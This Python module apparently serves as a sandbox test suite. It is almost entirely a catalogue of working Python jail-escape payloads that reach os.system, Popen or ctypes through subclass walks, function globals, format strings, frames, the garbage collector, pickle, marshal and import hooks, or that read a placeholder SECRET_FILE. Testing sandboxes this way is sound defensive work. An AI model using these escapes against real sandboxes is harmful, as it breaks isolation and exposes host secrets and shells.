"""Python itself: walks over objects, frames, modules, to whatever has an effect outside."""

from genprm.sandbox.trials.attacks.kind import attacks

_GRAPH: dict[str, str | tuple[str, ...]] = {
    "subclasses to os.system": "f = [c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
    "shell(f.__init__.__globals__['system'])",
    "subclasses to Popen": "import subprocess\n"
    "p = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\np(SHELL, shell=True)\nwon()",
    "subclasses to loaders": "l = [c for c in object.__subclasses__() if c.__name__ == 'FileLoader']\n"
    "print(l[0]('x', SECRET_FILE).get_data(SECRET_FILE))",
    "builtins through a module": "import warnings\nb = warnings.catch_warnings()._module.__builtins__\n"
    "print(b['open'](SECRET_FILE).read())",
    "builtins through a function": "import random\nb = random.seed.__func__.__globals__['__builtins__']\n"
    "shell(b['__import__']('os').system)",
    "printer of the licence": "license._Printer__filenames = [SECRET_FILE]\nlicense._Printer__setup()\n"
    "print(license._Printer__lines)\nopen(SECRET_FILE)",
    "bytecode of its own": "import types\ndef f(): pass\nc = f.__code__.replace(co_code=bytes([100, 255, 83, 0]))\n"
    "print(types.FunctionType(c, {})())",
    "pickle that runs a program": "import pickle, os\nclass E:\n    def __reduce__(self): return os.system, (SHELL,)\n"
    "shell(lambda s: pickle.loads(pickle.dumps(E())))",
    "marshal": "import marshal\n"
    "exec(marshal.loads(marshal.dumps(compile('print(open(SECRET_FILE).read())', 'x', 'exec'))))",
}

_FORMATS: dict[str, str | tuple[str, ...]] = {
    "format to globals": "class A:\n    def __init__(self): pass\nprint('{0.__init__.__globals__}'.format(A()))\n"
    "import os\nprint('{0.environ}'.format(os))",
    "format_map": "import os\nprint('{os.environ[HOME]} {os.sys.modules}'.format_map({'os': os})[:2000])",
    "string.Formatter": "import string, os\nf = string.Formatter().get_field('0.path.os', (os,), {})[0]\n"
    "shell(f.system)",
    "error that holds an object": "import os\ntry: os.path.nothing\nexcept AttributeError as e: shell(e.obj.os.system)",
}

_FRAMES: dict[str, str | tuple[str, ...]] = {
    "generator frames": "g = (g.gi_frame.f_back.f_back for _ in [1])\nframe = next(g)\nseen = []\n"
    "while frame: seen.append(sorted(frame.f_globals)); frame = frame.f_back\nprint(str(seen)[:2000])\nwon()",
    "traceback frames": "try: 1 / 0\nexcept ZeroDivisionError as e: frame = e.__traceback__.tb_frame\n"
    "while frame.f_back: "
    "frame = frame.f_back\nprint(str(frame.f_globals)[:2000])\nshell(frame.f_builtins['__import__']('os').system)",
    "locals of the runner": "import sys\nframe = sys._getframe()\nwhile frame: print(str(frame.f_locals)[:500]); "
    "frame = frame.f_back\nwon()",
    "walk of the collector": "import gc\ngc.unfreeze()\n"
    "for o in gc.get_objects():\n    n = getattr(o, '__name__', '')\n"
    "    if n == 'system' or type(o) is dict and 'system' in o and 'popen' in o: shell(o['system'])",
    "referrers": "import gc\n"
    "print(len(gc.get_referrers(won)), [str(r)[:300] for r in gc.get_referrers(print)[:5]])\nwon()",
    "coroutine frames": "async def c(): pass\nx = c()\nprint(x.cr_frame.f_builtins['open'](SECRET_FILE).read())",
}

_MODULES: dict[str, str | tuple[str, ...]] = {
    "sys.modules": "import sys\nshell(sys.modules['os'].system)",
    "sympy.external.import_module": "from sympy.external import import_module\nshell(import_module('os').system)",
    "os inside numpy": "import numpy\nshell(numpy.lib._npyio_impl.os.system)",
    "reload": "import importlib, os\nshell(importlib.reload(os).system)",
    "a finder of its own": "import sys\nclass F:\n    def find_spec(self, name, path, target=None): "
    "print(open(SECRET_FILE).read())\nsys.meta_path.insert(0, F())\nimport nothing_there",
    "a path of its own": "import sys\nsys.path.insert(0, OPEN_FOLDER)\nimport secrets_of_the_host",
    "ctypes by another name": "import _ctypes\nshell(lambda s: _ctypes.call_function("
    "_ctypes.dlsym(_ctypes.dlopen(None, 2), 'system'), (s.encode(),)))",
    "the sandbox's own modules": "import genprm.sandbox.kernel as k\nk.unshare('x', 0x10000000)\nwon()",
    "posix": "import posix\nshell(posix.system)",
    "breakpoint": "import sys\nsys.stdin = __import__('io').StringIO('import os; os.system(SHELL)\\n')\nbreakpoint()",
}

ATTACKS = (
    *attacks("object graph", _GRAPH),
    *attacks("format strings", _FORMATS),
    *attacks("frames and collector", _FRAMES),
    *attacks("modules", _MODULES),
)
